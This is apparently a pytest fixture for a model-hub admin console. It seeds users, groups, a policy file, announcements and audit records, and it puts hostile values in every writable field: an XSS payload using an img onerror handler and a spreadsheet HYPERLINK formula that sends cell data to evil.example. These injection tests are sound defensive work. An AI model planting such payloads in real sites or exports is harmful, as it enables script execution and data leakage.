"""A site that has been used for weeks, for whoever looks at every page of it: people in each state, groups, a policy,
destinations, announcements, two model servers of which one is away, and an audit with all that stands in audits.

What others can write somewhere is HTML (`EVIL`) or a formula (`FORMULA`) in each place that takes it.
"""

from __future__ import annotations

import contextlib
import datetime
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from cellar_hub.audit import AuditLog, Event, Interrupted, Keys, Opened, Settled
from cellar_hub.store import Store
from cellar_hub.store.tables import usage
from sqlalchemy import Connection

from tests.fakes.vllm import ServerOptions, running
from tests.hub.commands.site import PASSWORD
from tests.hub.console.seed import LONG_GROUP, seed
from tests.hub.console.site import ConsoleSite, apart
from tests.hub.jupyter import proxy_command

EVIL = "<b class=evil>bold</b><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
MODELS = ("coder-large", EVIL, "+" + FORMULA)
TABLE = """
[[models]]
model = "coder-large"
base_url = "{up}"
roles = ["chat", "completion"]

[[models]]
model = "{evil}"
base_url = "{up}"
groups = ["research", "{evil}"]

[[models]]
model = "coder-small"
base_url = "http://127.0.0.1:9/v1"
"""
POLICY = f"""\
# What everybody may. {EVIL}
[default]
tokens_per_month = 1_000_000   # enough for most
tokens_per_day = 400_000
destinations = ["warehouse.corp:5432"]

[groups.research]
tokens_per_month = 5_000_000
models = ["coder-large", "{EVIL}"]
modes = ["ask", "edit", "agent"]

[groups.unknown-to-the-hub]
max_tokens = 512

[groups.research.features]
images = {{ enabled = false, reason = "{EVIL}" }}

[users.lee]
tokens_per_day = 1_000_000

[[destinations]]
name = "warehouse.corp"
port = 5432
to = "10.1.2.3:5432"

[[destinations]]
name = "a-package-mirror-with-a-long-name.department.example.org"
port = 443

[[announcements]]
id = "friday"
level = "warning"
text = "The large model moves on Friday. {EVIL}"

[[announcements]]
id = "over"
level = "info"
text = "A room was closed."
ends = 2026-01-01T00:00:00Z

[[announcements]]
id = "later"
level = "error"
text = "Everything stops for an hour."
audience = "all"
starts = 2099-01-01T00:00:00Z
"""
SAID = ("The large model moves on Friday.", "A room was closed.", "Everything stops for an hour.", "Biology, room 12")
"""What people have written, in their own language."""


def sign_up(site: ConsoleSite, name: str, note: str) -> None:
    with httpx.Client(base_url=site.public, timeout=30) as browser:
        browser.get("/hub/signup")
        form = {"username": name, "password": PASSWORD, "again": PASSWORD, "note": note}
        answer = browser.post("/hub/signup", data=form | {"_xsrf": browser.cookies["_xsrf"]})
        assert "signup-done" in answer.text, answer.text[-1000:]


def furnish(site: ConsoleSite) -> None:
    seed(site)
    sign_up(site, "nari", "Biology, room 12")
    sign_up(site, "yun", EVIL)
    site.add("beth", "--admin")
    site.add("mallory")
    assert site.command("users", "block", "mallory").returncode == 0
    site.ask("POST", "/users/nobody.yet").raise_for_status()
    for group in (EVIL, FORMULA):
        with contextlib.closing(site.browser("admin")) as admin:
            assert site.form(admin, "groups", name=group).status_code == 200
    token = {"note": EVIL, "auth": {"username": "ann", "password": PASSWORD}}
    assert httpx.post(f"{site.url}/hub/api/users/ann/tokens", json=token, timeout=30).status_code == 201
    site.ask("POST", "/users/lee/server").raise_for_status()
    site.policy.write_text(POLICY)
    apart(_write_books(site))


async def _write_books(site: ConsoleSite) -> None:
    store = Store.open(f"sqlite:///{site.books['CELLAR_DATA']}/cellar.db")
    keys = Keys.open(Path(site.books["CELLAR_DATA"]) / "audit-keys")

    def write(tx: Connection) -> None:
        log = AuditLog.open(tx, "furnished", keys)
        now = time.time()
        today = datetime.datetime.now(datetime.UTC).date()
        spent = {"prompt": 900, "completion": 100, "cached": 0, "requests": 3, "estimated": 1}
        for name in (EVIL, FORMULA):
            tx.execute(usage.insert(), {"user_name": name, "day": today, "model": name, **spent})
        outcomes = ("complete", "length", "stopped", "error", "refused")
        for number, outcome in enumerate(outcomes * 3):
            for step, name in enumerate(("ann", "lee", EVIL)):
                at, request_id = now - 3600 * number - step, f"request-{number}-{step}"
                row = Opened(
                    request_id=request_id,
                    at=at,
                    user=name,
                    groups=("research", EVIL),
                    model=MODELS[(number + step) % 3],
                    kind="chat",
                    mode=EVIL if step == 2 else "agent",
                    turn=FORMULA,
                    client=EVIL,
                )
                log.append(tx, row)
                if number == 0:
                    continue  # under way
                if number == 1:
                    log.append(tx, Interrupted(request_id=request_id, at=at + 9))
                    continue
                code = {"error": "upstream_failed", "refused": FORMULA}.get(outcome, "")
                took = {"prompt": 1234, "completion": 456, "ttft_ms": 180, "total_ms": 4_321, "queued_ms": 2}
                log.append(
                    tx, Settled(request_id=request_id, at=at + 5, status=200, outcome=outcome, error_code=code, **took)
                )
        for action, subject, detail in (
            ("user.login.failed", "lee", {"client": "198.51.100.7", "reason": "wrong password"}),
            ("user.login.refused", EVIL, {"client": EVIL, "reason": "too many attempts"}),
            ("workspace.start", FORMULA, {EVIL: FORMULA}),
            ("destination.refused", "ann", {"reason": EVIL, "count": 3}),
            ("user.block.failed", "@SUM(A1)", {"status": 503}),
        ):
            log.append(tx, Event(at=now, actor="hub", action=action, subject=subject, detail=detail))

    await store.write(write)
    await store.close()


@pytest.fixture(scope="session")
def furnished(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ConsoleSite]:
    """Tests leave it as they have found it."""
    if not proxy_command():
        pytest.skip("configurable-http-proxy is missing, and there is no npm to install it")
    folder = tmp_path_factory.mktemp("furnished")
    with running(ServerOptions(models=[MODELS[0], EVIL])) as model:
        table = folder / "models.toml"
        table.write_text(TABLE.format(up=model.url, evil=EVIL))
        site = ConsoleSite(folder, gateway={"CELLAR_MODELS": str(table)})
        try:
            furnish(site)
            yield site
        finally:
            site.end()


__all__ = ["EVIL", "FORMULA", "LONG_GROUP", "SAID", "furnished"]
